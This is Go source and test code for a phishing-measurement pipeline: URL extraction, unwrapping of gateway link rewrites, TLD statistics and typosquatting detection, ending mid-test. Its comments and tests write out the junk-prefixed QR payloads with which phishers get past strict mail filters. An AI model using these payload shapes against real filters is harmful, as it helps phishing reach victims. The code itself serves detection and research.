// registrable core.
func (a *DeceptionAnalyzer) isKeywordStuffing(core string) bool {
	var hits int
	for _, kw := range _phishKeywords {
		if strings.Contains(core, kw) {
			hits++
			if hits >= 2 {
				return true
			}
		}
	}
	return false
}

// levenshtein returns the restricted Damerau-Levenshtein distance between a
// and b: insertions, deletions, substitutions, and adjacent transpositions
// each cost 1. Typosquatting detectors use this metric because fat-finger
// swaps ("fra" for "far") are among the most common squat mutations.
func levenshtein(a, b string) int {
	if a == b {
		return 0
	}
	ra, rb := []rune(a), []rune(b)
	if len(ra) == 0 {
		return len(rb)
	}
	if len(rb) == 0 {
		return len(ra)
	}
	// Three rolling rows: i-2, i-1, i (the transposition case reads i-2).
	prev2 := make([]int, len(rb)+1)
	prev := make([]int, len(rb)+1)
	curr := make([]int, len(rb)+1)
	for j := range prev {
		prev[j] = j
	}
	for i := 1; i <= len(ra); i++ {
		curr[0] = i
		for j := 1; j <= len(rb); j++ {
			cost := 1
			if ra[i-1] == rb[j-1] {
				cost = 0
			}
			d := min3(prev[j]+1, curr[j-1]+1, prev[j-1]+cost)
			if i > 1 && j > 1 && ra[i-1] == rb[j-2] && ra[i-2] == rb[j-1] {
				if t := prev2[j-2] + 1; t < d {
					d = t
				}
			}
			curr[j] = d
		}
		prev2, prev, curr = prev, curr, prev2
	}
	return prev[len(rb)]
}

func min3(a, b, c int) int {
	if b < a {
		a = b
	}
	if c < a {
		a = c
	}
	return a
}
