package urlx

import (
	"net/url"
	"strings"
)

// URL-rewrite decoding. Enterprise mail gateways rewrite every link in a
// delivered message through a click-tracking redirector — Microsoft Safe
// Links wraps the original URL in a `?url=` query parameter, Proofpoint URL
// Defense v3 embeds it between `__` markers in the path — so the URL the
// reporting database hands the service is often not the URL the victim's
// browser would load. The CrawlerBox README names a `url_rewrite` hook as a
// required integration point for exactly this reason: wrapped URLs must be
// decoded back to their canonical form before the crawler loads them, and
// (for the ingest service) before the verdict cache is consulted, or every
// per-tenant rewrite of the same phishing page would defeat deduplication.
//
// The decoders are deliberately forgiving about junk in the wrapper
// (tracking parameters, reserved suffixes) but strict about the recovered
// URL itself: a wrapper whose payload does not validate as an absolute
// http(s) URL is left untouched rather than half-decoded.

// maxRewriteDepth bounds recursive unwrapping: gateways chain (a Proofpoint
// link forwarded through a Safe Links tenant gets double-wrapped), but an
// attacker-supplied redirect loop must not spin the parser.
const maxRewriteDepth = 4

// rewriteHostSafeLinks matches Safe Links rewrite hosts such as
// eur01.safelinks.protection.outlook.example.
const rewriteHostSafeLinks = "safelinks.protection"

// rewriteHostURLDefense matches Proofpoint URL Defense hosts such as
// urldefense.example / urldefense.proofpoint.example.
const rewriteHostURLDefense = "urldefense"

// DecodeRewritten unwraps gateway URL rewrites (Safe Links, Proofpoint URL
// Defense, generic `?url=` redirectors), recursively up to a fixed depth.
// It returns the canonical inner URL and the number of wrapper layers
// removed; zero layers means raw was not recognized as a rewrite (or its
// payload was malformed) and is returned unchanged.
func DecodeRewritten(raw string) (string, int) {
	current := raw
	layers := 0
	for layers < maxRewriteDepth {
		inner, ok := decodeOneLayer(current)
		if !ok {
			break
		}
		current = inner
		layers++
	}
	if layers == 0 {
		return raw, 0
	}
	return current, layers
}

// decodeOneLayer removes a single wrapper layer.
func decodeOneLayer(raw string) (string, bool) {
	u, err := url.Parse(raw)
	if err != nil || (u.Scheme != "http" && u.Scheme != "https") {
		return "", false
	}
	host := strings.ToLower(u.Hostname())
	switch {
	case strings.Contains(host, rewriteHostSafeLinks):
		return decodeQueryParam(u, "url")
	case strings.Contains(host, rewriteHostURLDefense):
		if inner, ok := decodeURLDefenseV3(u); ok {
			return inner, true
		}
		// v2 carries the target in ?u= with its own substitution cipher;
		// the modern deployments this corpus models emit v3, so v2 falls
		// back to the generic query-parameter form.
		return decodeQueryParam(u, "u")
	default:
		// Generic open-redirect style wrapper: a ?url= parameter holding a
		// complete absolute URL. Only recognized when the payload validates,
		// so ordinary tokenized links (?t=...) are never touched.
		return decodeQueryParam(u, "url")
	}
}

// decodeQueryParam recovers an absolute URL from the named query parameter.
// net/url has already percent-decoded the value; a malformed encoding that
// fails to percent-decode (url.ParseQuery error) or does not validate as an
// http(s) URL rejects the layer.
func decodeQueryParam(u *url.URL, name string) (string, bool) {
	vals, err := url.ParseQuery(u.RawQuery)
	if err != nil {
		return "", false
	}
	inner := vals.Get(name)
	if inner == "" {
		return "", false
	}
	out, ok := validateURL(inner)
	return out, ok
}

// decodeURLDefenseV3 recovers the target from the Proofpoint v3 path form
//
//	https://urldefense.example/v3/__https://evil.example/path__;!!token!sig$
//
// The original URL sits between "__" markers after the /v3/ prefix; the
// trailing ";..." blob is a checksum the decoder ignores. Non-ASCII runs in
// the original are replaced by "*" placeholders in the wrapper; payloads
// containing placeholders cannot be reconstructed and reject the layer.
func decodeURLDefenseV3(u *url.URL) (string, bool) {
	path := u.EscapedPath()
	const prefix = "/v3/__"
	if !strings.HasPrefix(path, prefix) {
		return "", false
	}
	rest := path[len(prefix):]
	end := strings.Index(rest, "__;")
	if end < 0 {
		// Tolerate a missing checksum separator but still require the
		// closing marker.
		end = strings.LastIndex(rest, "__")
		if end < 0 {
			return "", false
		}
	}
	payload := rest[:end]
	if strings.Contains(payload, "*") {
		return "", false
	}
	decoded, err := url.PathUnescape(payload)
	if err != nil {
		return "", false
	}
	return validateURL(decoded)
}

// WrapSafeLinks encodes target the way a Safe Links gateway rewrites an
// outbound link for the given tenant shard (e.g. "eur01"). Inverse of
// DecodeRewritten for well-formed targets.
func WrapSafeLinks(tenant, target string) string {
	return "https://" + tenant + ".safelinks.protection.outlook.example/?url=" +
		url.QueryEscape(target) + "&data=" + wrapTag(target)
}

// WrapURLDefense encodes target in the Proofpoint URL Defense v3 path form.
func WrapURLDefense(target string) string {
	escaped := strings.ReplaceAll(url.QueryEscape(target), "+", "%20")
	return "https://urldefense.example/v3/__" + escaped + "__;!!" + wrapTag(target) + "$"
}

// WrapGenericRedirect encodes target behind a bare `?url=` redirector on
// host — the open-redirect shape commercial trackers share.
func WrapGenericRedirect(host, target string) string {
	return "https://" + host + "/redirect?url=" + url.QueryEscape(target)
}

// wrapTag derives a short deterministic tracking blob from the target so
// wrapped URLs look like real gateway output without a wall-clock or RNG.
func wrapTag(target string) string {
	var h uint32 = 2166136261
	for i := 0; i < len(target); i++ {
		h ^= uint32(target[i])
		h *= 16777619
	}
	const digits = "0123456789abcdef"
	var b [8]byte
	for i := range b {
		b[i] = digits[h&0xf]
		h >>= 4
	}
	return string(b[:])
}
