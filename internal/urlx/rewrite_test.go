package urlx

import (
	"testing"
)

func TestDecodeRewrittenRoundTrip(t *testing.T) {
	targets := []string{
		"https://secure-login.example/portal?t=u001x0042",
		"http://captcha-wall.example/verify?t=u003x0007#ZnJhZw==",
		"https://evil.example/path/with%20space?a=1&b=2",
	}
	wrappers := []struct {
		name string
		wrap func(string) string
	}{
		{"safelinks", func(s string) string { return WrapSafeLinks("eur01", s) }},
		{"urldefense", WrapURLDefense},
		{"generic", func(s string) string { return WrapGenericRedirect("track.mailer.example", s) }},
	}
	for _, w := range wrappers {
		for _, target := range targets {
			wrapped := w.wrap(target)
			got, layers := DecodeRewritten(wrapped)
			if layers != 1 {
				t.Errorf("%s(%q): layers = %d, want 1", w.name, target, layers)
			}
			want, ok := validateURL(target)
			if !ok {
				t.Fatalf("test target %q does not validate", target)
			}
			if got != want {
				t.Errorf("%s(%q): decoded %q, want %q", w.name, target, got, want)
			}
		}
	}
}

func TestDecodeRewrittenDoubleWrap(t *testing.T) {
	target := "https://secure-login.example/portal?t=u001x0042"
	want, _ := validateURL(target)

	// Proofpoint inside Safe Links: a defended link forwarded through an
	// Outlook tenant.
	wrapped := WrapSafeLinks("nam02", WrapURLDefense(target))
	got, layers := DecodeRewritten(wrapped)
	if layers != 2 || got != want {
		t.Errorf("safelinks(urldefense): got %q layers=%d, want %q layers=2", got, layers, want)
	}

	// Generic redirector inside Proofpoint.
	wrapped = WrapURLDefense(WrapGenericRedirect("r.click.example", target))
	got, layers = DecodeRewritten(wrapped)
	if layers != 2 || got != want {
		t.Errorf("urldefense(generic): got %q layers=%d, want %q layers=2", got, layers, want)
	}
}

func TestDecodeRewrittenDepthCap(t *testing.T) {
	target := "https://secure-login.example/a"
	wrapped := target
	for i := 0; i < maxRewriteDepth+3; i++ {
		wrapped = WrapGenericRedirect("r.click.example", wrapped)
	}
	_, layers := DecodeRewritten(wrapped)
	if layers != maxRewriteDepth {
		t.Errorf("layers = %d, want depth cap %d", layers, maxRewriteDepth)
	}
}

func TestDecodeRewrittenUntouched(t *testing.T) {
	// URLs that must pass through unchanged with zero layers: the world's
	// own tokenized links, wrappers with malformed or missing payloads, and
	// outright junk.
	cases := []string{
		"https://secure-login.example/portal?t=u001x0042",
		"https://secure-login.example/portal?t=u001x0042#dmljdGlt",
		// Safe Links host but the payload percent-encoding is broken.
		"https://eur01.safelinks.protection.outlook.example/?url=https%ZZbroken&data=x",
		// Safe Links host, payload is not an absolute URL.
		"https://eur01.safelinks.protection.outlook.example/?url=not-a-url&data=x",
		// Safe Links host with no url param at all.
		"https://eur01.safelinks.protection.outlook.example/?data=x",
		// URL Defense v3 with no closing marker.
		"https://urldefense.example/v3/__https://evil.example/a",
		// URL Defense v3 with a placeholder run (unreconstructable).
		"https://urldefense.example/v3/__https://evil.example/a*b__;!!t$",
		// Generic ?url= whose payload is relative.
		"https://track.mailer.example/redirect?url=/local/path",
		// Non-http scheme never unwraps.
		"ftp://track.mailer.example/redirect?url=https%3A%2F%2Fevil.example",
		"not a url at all",
		"",
	}
	for _, raw := range cases {
		got, layers := DecodeRewritten(raw)
		if layers != 0 || got != raw {
			t.Errorf("DecodeRewritten(%q) = %q, %d; want input unchanged, 0 layers", raw, got, layers)
		}
	}
}

func TestDecodeRewrittenURLDefenseNoChecksum(t *testing.T) {
	// A v3 wrapper whose checksum separator was truncated to a bare closing
	// marker still decodes.
	raw := "https://urldefense.example/v3/__https://evil.example/a__"
	got, layers := DecodeRewritten(raw)
	if layers != 1 || got != "https://evil.example/a" {
		t.Errorf("got %q layers=%d, want https://evil.example/a layers=1", got, layers)
	}
}

// FuzzURLRewrite drives the decoder with arbitrary input (it must never
// panic and never loop past the depth cap) and cross-checks the round-trip
// property when the input happens to be a valid URL.
func FuzzURLRewrite(f *testing.F) {
	f.Add("https://secure-login.example/portal?t=u001x0042")
	f.Add(WrapSafeLinks("eur01", "https://secure-login.example/portal?t=u001x0042"))
	f.Add(WrapURLDefense("https://captcha-wall.example/verify?t=u003x0007"))
	f.Add(WrapGenericRedirect("track.mailer.example", "http://evil.example/a?b=c"))
	f.Add(WrapSafeLinks("nam02", WrapURLDefense("https://evil.example/x")))
	f.Add("https://eur01.safelinks.protection.outlook.example/?url=https%ZZbroken")
	f.Add("https://urldefense.example/v3/__https://evil.example/a*b__;!!t$")
	f.Fuzz(func(t *testing.T, raw string) {
		decoded, layers := DecodeRewritten(raw)
		if layers < 0 || layers > maxRewriteDepth {
			t.Fatalf("layers = %d out of range", layers)
		}
		if layers == 0 && decoded != raw {
			t.Fatalf("zero layers but input mutated: %q -> %q", raw, decoded)
		}
		if layers > 0 {
			if _, ok := validateURL(decoded); !ok {
				t.Fatalf("decoded %q from %q is not a valid URL", decoded, raw)
			}
		}
		// Re-wrapping a stable decode must round-trip: only when decoded is
		// itself fully unwrapped (the depth cap can leave residual layers).
		if layers > 0 {
			if _, more := DecodeRewritten(decoded); more == 0 {
				again, n := DecodeRewritten(WrapSafeLinks("fuzz01", decoded))
				if n != 1 || again != decoded {
					t.Fatalf("rewrap(%q) decoded to %q (%d layers)", decoded, again, n)
				}
			}
		}
	})
}
