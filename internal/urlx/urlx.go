// Package urlx implements URL discovery and domain-syntax analysis for the
// CrawlerBox pipeline.
//
// Two extraction modes reproduce the divergence that the paper found being
// exploited in the wild (Section V-C1, "faulty QR codes"): a strict extractor
// modelled on email-security parsers, which only accepts strings that are
// syntactically valid URLs from their first byte, and a lenient extractor
// modelled on mobile camera apps, which locates a "http(s)://" scheme
// anywhere inside the payload and silently discards junk prefixes such as
// "xxx https://evil.example/" or "[https://evil.example/".
//
// The package also classifies the deceptive domain-syntax techniques the
// paper measures (combosquatting, target embedding, homoglyphs, keyword
// stuffing, typosquatting, punycode) — found on only 15.7% of spear-phishing
// landing domains, which is itself an evasion signal.
package urlx

import (
	"net/url"
	"sort"
	"strings"
	"unicode"
)

// Extraction reports where a URL was found inside a larger payload.
type Extraction struct {
	// URL is the normalized absolute URL.
	URL string
	// Offset is the byte offset of the scheme inside the payload.
	Offset int
	// JunkPrefix is true when non-URL bytes preceded the scheme and a
	// strict parser anchored at the start of the payload would have failed.
	JunkPrefix bool
}

// schemes recognized by both extractors.
var _schemes = []string{"https://", "http://"}

// ExtractStrict scans text and returns every URL that a conservative
// email-security parser would find: the scheme must start either at the
// beginning of the payload or after a URL delimiter (whitespace, quotes,
// angle brackets, parentheses), and the authority must be non-empty with a
// syntactically valid host.
//
// Crucially — and this is the bug the paper found exploited in the wild —
// a payload consisting of a single token such as "xxx https://evil.com" that
// is scanned as one opaque unit (e.g., the decoded contents of a QR code)
// yields nothing, because the strict parser requires the entire payload to
// be a URL. Use ExtractStrictWhole for that behaviour.
func ExtractStrict(text string) []Extraction {
	var out []Extraction
	for i := 0; i < len(text); {
		idx, scheme := findScheme(text[i:])
		if idx < 0 {
			break
		}
		pos := i + idx
		if pos > 0 && !isURLDelimiter(rune(text[pos-1])) {
			// Scheme glued to preceding junk: strict parsers reject it.
			i = pos + len(scheme)
			continue
		}
		raw := sliceURL(text[pos:])
		if u, ok := validateURL(raw); ok {
			out = append(out, Extraction{URL: u, Offset: pos})
		}
		i = pos + len(raw)
		if len(raw) == 0 {
			i = pos + len(scheme)
		}
	}
	return out
}

// ExtractStrictWhole treats the entire payload as one candidate URL, the way
// email-filter QR-code handlers treat a decoded QR payload. It returns the
// URL and true only when the payload is a valid URL from its very first
// byte (modulo surrounding ASCII whitespace trimming, which real parsers do).
func ExtractStrictWhole(payload string) (string, bool) {
	trimmed := strings.TrimSpace(payload)
	if _, s := hasSchemePrefix(trimmed); s == "" {
		return "", false
	}
	raw := sliceURL(trimmed)
	if raw != trimmed {
		// Trailing junk after the URL also fails whole-payload validation.
		return "", false
	}
	return validateOrEmpty(raw)
}

// ExtractLenient mimics mobile camera QR handlers: it searches for a scheme
// anywhere in the payload, ignores whatever precedes it, and extracts the
// longest syntactically plausible URL starting there. This is why a QR code
// encoding "xxx https://evil.example/" still opens the malicious page on a
// phone while the mail filter sees nothing.
func ExtractLenient(payload string) []Extraction {
	var out []Extraction
	for i := 0; i < len(payload); {
		idx, scheme := findScheme(payload[i:])
		if idx < 0 {
			break
		}
		pos := i + idx
		raw := sliceURL(payload[pos:])
		if u, ok := validateURL(raw); ok {
			junk := pos > 0 && !isURLDelimiter(rune(payload[pos-1]))
			// Any preceding non-whitespace bytes at payload start also count
			// as junk context for whole-payload scanning.
			if pos > 0 && strings.TrimSpace(payload[:pos]) != "" {
				junk = true
			}
			out = append(out, Extraction{URL: u, Offset: pos, JunkPrefix: junk})
		}
		i = pos + len(raw)
		if len(raw) == 0 {
			i = pos + len(scheme)
		}
	}
	return out
}

func findScheme(s string) (int, string) {
	best := -1
	var bestScheme string
	for _, scheme := range _schemes {
		if idx := indexFold(s, scheme); idx >= 0 && (best < 0 || idx < best) {
			best = idx
			bestScheme = scheme
		}
	}
	return best, bestScheme
}

func hasSchemePrefix(s string) (string, string) {
	for _, scheme := range _schemes {
		if len(s) >= len(scheme) && strings.EqualFold(s[:len(scheme)], scheme) {
			return s[len(scheme):], scheme
		}
	}
	return s, ""
}

// indexFold is a case-insensitive strings.Index for ASCII needles.
func indexFold(s, needle string) int {
	n := len(needle)
	if n == 0 {
		return 0
	}
	for i := 0; i+n <= len(s); i++ {
		if strings.EqualFold(s[i:i+n], needle) {
			return i
		}
	}
	return -1
}

func isURLDelimiter(r rune) bool {
	switch r {
	case ' ', '\t', '\n', '\r', '"', '\'', '<', '>', '(', ')', '[', ']', '{', '}', ',', ';':
		return true
	}
	return unicode.IsSpace(r)
}

// sliceURL returns the prefix of s (which must start with a scheme) that
// constitutes the URL: it stops at whitespace, quotes, and angle brackets,
// then strips common trailing punctuation that belongs to prose.
func sliceURL(s string) string {
	end := len(s)
	for i, r := range s {
		if r == ' ' || r == '\t' || r == '\n' || r == '\r' || r == '"' ||
			r == '\'' || r == '<' || r == '>' || r == '`' || unicode.IsSpace(r) {
			end = i
			break
		}
	}
	raw := s[:end]
	// Strip trailing prose punctuation: "visit https://x.com/."
	for len(raw) > 0 {
		last := raw[len(raw)-1]
		if strings.ContainsRune(".,;:!?)]}", rune(last)) {
			raw = raw[:len(raw)-1]
			continue
		}
		break
	}
	return raw
}

func validateURL(raw string) (string, bool) {
	if raw == "" {
		return "", false
	}
	u, err := url.Parse(raw)
	if err != nil {
		return "", false
	}
	if u.Scheme != "http" && u.Scheme != "https" {
		return "", false
	}
	host := u.Hostname()
	if host == "" || !validHost(host) {
		return "", false
	}
	return u.String(), true
}

func validateOrEmpty(raw string) (string, bool) {
	return validateURL(raw)
}

// validHost accepts DNS names (letters, digits, hyphens, dots) and rejects
// hosts without a dot unless they are "localhost" or IPv4 literals.
func validHost(host string) bool {
	if host == "localhost" {
		return true
	}
	hasDot := false
	for _, r := range host {
		switch {
		case r == '.':
			hasDot = true
		case r == '-' || r == '_':
		case r >= 'a' && r <= 'z', r >= 'A' && r <= 'Z', r >= '0' && r <= '9':
		default:
			return false
		}
	}
	if !hasDot {
		return false
	}
	if strings.HasPrefix(host, ".") || strings.HasSuffix(host, ".") ||
		strings.Contains(host, "..") {
		return false
	}
	return true
}

// Domain decomposes a host name for TLD statistics (Table II).
type Domain struct {
	Host        string // full host, e.g. portal.evil-site.co.uk
	Registrable string // eTLD+1, e.g. evil-site.co.uk
	TLD         string // public suffix with leading dot, e.g. .co.uk
	IsIP        bool
}

// _multiLabelSuffixes is a compact public-suffix subset sufficient for the
// TLDs observed in the study plus common multi-label suffixes.
var _multiLabelSuffixes = map[string]bool{
	"co.uk": true, "org.uk": true, "ac.uk": true, "gov.uk": true,
	"com.br": true, "net.br": true, "org.br": true,
	"com.au": true, "net.au": true, "org.au": true,
	"co.jp": true, "ne.jp": true, "or.jp": true,
	"co.in": true, "com.cn": true, "com.ru": true,
	"com.tr": true, "com.mx": true, "co.za": true,
	"vercel.app": true, "workers.dev": true, "pages.dev": true,
	"r2.dev": true, "web.app": true, "github.io": true,
	"cloudfront.net": true, "oraclecloud.com": true,
	"cloudflare-ipfs.com": true,
}

// ParseDomain splits a host into its registrable domain and TLD.
func ParseDomain(host string) Domain {
	host = strings.ToLower(strings.TrimSuffix(host, "."))
	d := Domain{Host: host}
	if isIPv4(host) {
		d.IsIP = true
		d.Registrable = host
		return d
	}
	labels := strings.Split(host, ".")
	if len(labels) < 2 {
		d.Registrable = host
		return d
	}
	// Try the longest multi-label suffix first.
	for take := 3; take >= 2; take-- {
		if len(labels) > take {
			suffix := strings.Join(labels[len(labels)-take:], ".")
			if _multiLabelSuffixes[suffix] {
				d.TLD = "." + suffix
				d.Registrable = strings.Join(labels[len(labels)-take-1:], ".")
				return d
			}
		}
	}
	d.TLD = "." + labels[len(labels)-1]
	d.Registrable = strings.Join(labels[len(labels)-2:], ".")
	return d
}

func isIPv4(host string) bool {
	parts := strings.Split(host, ".")
	if len(parts) != 4 {
		return false
	}
	for _, p := range parts {
		if p == "" || len(p) > 3 {
			return false
		}
		n := 0
		for _, r := range p {
			if r < '0' || r > '9' {
				return false
			}
			n = n*10 + int(r-'0')
		}
		if n > 255 {
			return false
		}
	}
	return true
}

// TLDCount is one row of the Table II distribution.
type TLDCount struct {
	TLD     string
	Count   int
	Percent float64
}

// TLDDistribution aggregates hosts by TLD, sorted by descending count, with
// percentages over the total — the shape of the paper's Table II.
func TLDDistribution(hosts []string) []TLDCount {
	counts := make(map[string]int)
	for _, h := range hosts {
		d := ParseDomain(h)
		tld := d.TLD
		if d.IsIP {
			tld = "(ip)"
		}
		counts[tld]++
	}
	out := make([]TLDCount, 0, len(counts))
	for tld, c := range counts {
		out = append(out, TLDCount{TLD: tld, Count: c})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Count != out[j].Count {
			return out[i].Count > out[j].Count
		}
		return out[i].TLD < out[j].TLD
	})
	total := float64(len(hosts))
	if total > 0 {
		for i := range out {
			out[i].Percent = 100 * float64(out[i].Count) / total
		}
	}
	return out
}
