package urlx

import (
	"strings"
	"testing"
	"testing/quick"
)

func TestExtractStrictBasic(t *testing.T) {
	tests := []struct {
		name string
		text string
		want []string
	}{
		{"plain", "visit https://example.com/login now", []string{"https://example.com/login"}},
		{"two urls", "a https://a.com b http://b.org c", []string{"https://a.com", "http://b.org"}},
		{"at start", "https://start.example/x", []string{"https://start.example/x"}},
		{"angle brackets", "<https://x.example/path>", []string{"https://x.example/path"}},
		{"trailing period", "see https://x.example/a.", []string{"https://x.example/a"}},
		{"parenthesized", "(https://x.example/p)", []string{"https://x.example/p"}},
		{"none", "no links here", nil},
		{"bad scheme", "ftp://files.example/x", nil},
		{"no host", "https:///path", nil},
		{"glued junk rejected", "xxxhttps://evil.example/", nil},
		{"query and fragment", "go https://x.example/p?a=1#frag end", []string{"https://x.example/p?a=1#frag"}},
		{"case-insensitive scheme", "HTTPS://UPPER.EXAMPLE/p", []string{"https://UPPER.EXAMPLE/p"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := ExtractStrict(tt.text)
			var urls []string
			for _, e := range got {
				urls = append(urls, e.URL)
			}
			if len(urls) != len(tt.want) {
				t.Fatalf("ExtractStrict(%q) = %v, want %v", tt.text, urls, tt.want)
			}
			for i := range urls {
				if urls[i] != tt.want[i] {
					t.Errorf("url[%d] = %q, want %q", i, urls[i], tt.want[i])
				}
			}
		})
	}
}

func TestExtractStrictWhole(t *testing.T) {
	tests := []struct {
		name    string
		payload string
		wantURL string
		wantOK  bool
	}{
		{"clean url", "https://evil-site.com/dhfYWfH", "https://evil-site.com/dhfYWfH", true},
		{"leading space trimmed", "  https://evil-site.com/x  ", "https://evil-site.com/x", true},
		{"junk prefix word", "xxx https://evil-site.com/", "", false},
		{"junk bracket", "[https://evil-site.com/", "", false},
		{"junk glued", "zzhttps://evil-site.com/", "", false},
		{"trailing junk", "https://evil-site.com/x and more", "", false},
		{"not a url", "hello world", "", false},
		{"empty", "", "", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, ok := ExtractStrictWhole(tt.payload)
			if ok != tt.wantOK || got != tt.wantURL {
				t.Errorf("ExtractStrictWhole(%q) = (%q, %v), want (%q, %v)",
					tt.payload, got, ok, tt.wantURL, tt.wantOK)
			}
		})
	}
}

func TestExtractLenientFaultyQRPayloads(t *testing.T) {
	// The exact shapes from the paper: "xxx https://evil-site.com/" and
	// "[https://evil-site.com/". Mobile scanners extract the URL; strict
	// whole-payload parsing does not. This is the filter-evasion bug.
	payloads := []string{
		"xxx https://evil-site.com/",
		"[https://evil-site.com/",
		"!!!###https://evil-site.com/",
		"scan me » https://evil-site.com/",
	}
	for _, p := range payloads {
		t.Run(p, func(t *testing.T) {
			lenient := ExtractLenient(p)
			if len(lenient) != 1 || lenient[0].URL != "https://evil-site.com/" {
				t.Fatalf("ExtractLenient(%q) = %+v, want the evil URL", p, lenient)
			}
			if !lenient[0].JunkPrefix {
				t.Errorf("ExtractLenient(%q): JunkPrefix = false, want true", p)
			}
			if _, ok := ExtractStrictWhole(p); ok {
				t.Errorf("ExtractStrictWhole(%q) succeeded; the evasion depends on it failing", p)
			}
		})
	}
}

func TestExtractLenientCleanPayloadNoJunkFlag(t *testing.T) {
	got := ExtractLenient("https://ok.example/path")
	if len(got) != 1 || got[0].JunkPrefix {
		t.Errorf("clean payload: got %+v, want one extraction with JunkPrefix=false", got)
	}
}

func TestStrictSubsetOfLenientProperty(t *testing.T) {
	// Every URL the strict extractor finds must also be found leniently.
	f := func(a, b uint16) bool {
		hostA := "h" + strings.Repeat("a", int(a%5)+1) + ".com"
		text := "x https://" + hostA + "/p" + strings.Repeat("q", int(b%7)) + " tail"
		strict := ExtractStrict(text)
		lenient := ExtractLenient(text)
		found := make(map[string]bool, len(lenient))
		for _, e := range lenient {
			found[e.URL] = true
		}
		for _, e := range strict {
			if !found[e.URL] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestValidHost(t *testing.T) {
	tests := []struct {
		host string
		want bool
	}{
		{"example.com", true},
		{"sub.example.co.uk", true},
		{"localhost", true},
		{"evil-site.com", true},
		{"no-dot", false},
		{".leading.com", false},
		{"trailing.com.", false},
		{"dou..ble.com", false},
		{"spa ce.com", false},
	}
	for _, tt := range tests {
		if got := validHost(tt.host); got != tt.want {
			t.Errorf("validHost(%q) = %v, want %v", tt.host, got, tt.want)
		}
	}
}

func TestParseDomain(t *testing.T) {
	tests := []struct {
		host            string
		wantRegistrable string
		wantTLD         string
		wantIP          bool
	}{
		{"evil-site.com", "evil-site.com", ".com", false},
		{"portal.evil-site.com", "evil-site.com", ".com", false},
		{"a.b.evil.ru", "evil.ru", ".ru", false},
		{"shop.example.co.uk", "example.co.uk", ".co.uk", false},
		{"myapp.vercel.app", "myapp.vercel.app", ".vercel.app", false},
		{"x.workers.dev", "x.workers.dev", ".workers.dev", false},
		{"sub.phish.cloudfront.net", "phish.cloudfront.net", ".cloudfront.net", false},
		{"192.168.1.10", "192.168.1.10", "", true},
		{"UPPER.Example.COM", "example.com", ".com", false},
		{"trailing.dot.com.", "dot.com", ".com", false},
	}
	for _, tt := range tests {
		t.Run(tt.host, func(t *testing.T) {
			d := ParseDomain(tt.host)
			if d.Registrable != tt.wantRegistrable || d.TLD != tt.wantTLD || d.IsIP != tt.wantIP {
				t.Errorf("ParseDomain(%q) = %+v, want registrable=%q tld=%q ip=%v",
					tt.host, d, tt.wantRegistrable, tt.wantTLD, tt.wantIP)
			}
		})
	}
}

func TestIsIPv4(t *testing.T) {
	tests := []struct {
		host string
		want bool
	}{
		{"1.2.3.4", true},
		{"255.255.255.255", true},
		{"256.1.1.1", false},
		{"1.2.3", false},
		{"1.2.3.4.5", false},
		{"a.b.c.d", false},
		{"1.2..4", false},
	}
	for _, tt := range tests {
		if got := isIPv4(tt.host); got != tt.want {
			t.Errorf("isIPv4(%q) = %v, want %v", tt.host, got, tt.want)
		}
	}
}

func TestTLDDistribution(t *testing.T) {
	hosts := []string{
		"a.com", "b.com", "c.com", "x.ru", "y.ru", "z.dev",
		"portal.a.com", "10.0.0.1",
	}
	dist := TLDDistribution(hosts)
	if dist[0].TLD != ".com" || dist[0].Count != 4 {
		t.Fatalf("top TLD = %+v, want .com x4", dist[0])
	}
	if dist[1].TLD != ".ru" || dist[1].Count != 2 {
		t.Fatalf("second TLD = %+v, want .ru x2", dist[1])
	}
	var total int
	var pct float64
	for _, row := range dist {
		total += row.Count
		pct += row.Percent
	}
	if total != len(hosts) {
		t.Errorf("counts sum to %d, want %d", total, len(hosts))
	}
	if pct < 99.9 || pct > 100.1 {
		t.Errorf("percentages sum to %v, want ~100", pct)
	}
}

func TestTLDDistributionEmpty(t *testing.T) {
	if dist := TLDDistribution(nil); len(dist) != 0 {
		t.Errorf("TLDDistribution(nil) = %v, want empty", dist)
	}
}

func TestLevenshtein(t *testing.T) {
	tests := []struct {
		a, b string
		want int
	}{
		{"", "", 0},
		{"abc", "abc", 0},
		{"abc", "", 3},
		{"", "abc", 3},
		{"kitten", "sitting", 3},
		{"acme", "acmee", 1},
		{"flaw", "lawn", 2},
	}
	for _, tt := range tests {
		if got := levenshtein(tt.a, tt.b); got != tt.want {
			t.Errorf("levenshtein(%q, %q) = %d, want %d", tt.a, tt.b, got, tt.want)
		}
	}
}

func TestLevenshteinProperties(t *testing.T) {
	f := func(a, b string) bool {
		if len(a) > 30 {
			a = a[:30]
		}
		if len(b) > 30 {
			b = b[:30]
		}
		d := levenshtein(a, b)
		if d != levenshtein(b, a) {
			return false
		}
		if (d == 0) != (a == b) {
			return false
		}
		la, lb := len([]rune(a)), len([]rune(b))
		diff := la - lb
		if diff < 0 {
			diff = -diff
		}
		return d >= diff
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func newTestAnalyzer() *DeceptionAnalyzer {
	return NewDeceptionAnalyzer([]string{"acmetravel", "microsoft", "onedrive", "docusign"})
}

func TestDeceptionTyposquatting(t *testing.T) {
	a := newTestAnalyzer()
	got := a.Analyze("acmetravl.com") // one deletion
	if !containsTechnique(got, DeceptionTyposquatting) {
		t.Errorf("acmetravl.com: %v, want typosquatting", got)
	}
	if a.IsDeceptive("acmetravel.com") && containsTechnique(a.Analyze("acmetravel.com"), DeceptionTyposquatting) {
		t.Error("exact brand domain must not be typosquatting")
	}
}

func TestDeceptionCombosquatting(t *testing.T) {
	a := newTestAnalyzer()
	tests := []struct {
		host string
		want bool
	}{
		{"acmetravel-login.com", true},
		{"secure-microsoft.ru", true},
		{"acmetravel.com", false},
		{"unrelated.com", false},
	}
	for _, tt := range tests {
		got := containsTechnique(a.Analyze(tt.host), DeceptionCombosquatting)
		if got != tt.want {
			t.Errorf("combosquat(%q) = %v, want %v", tt.host, got, tt.want)
		}
	}
}

func TestDeceptionTargetEmbedding(t *testing.T) {
	a := newTestAnalyzer()
	if !containsTechnique(a.Analyze("acmetravel.evil-host.com"), DeceptionTargetEmbedding) {
		t.Error("brand subdomain of unrelated domain must be target embedding")
	}
	if containsTechnique(a.Analyze("www.acmetravel.com"), DeceptionTargetEmbedding) {
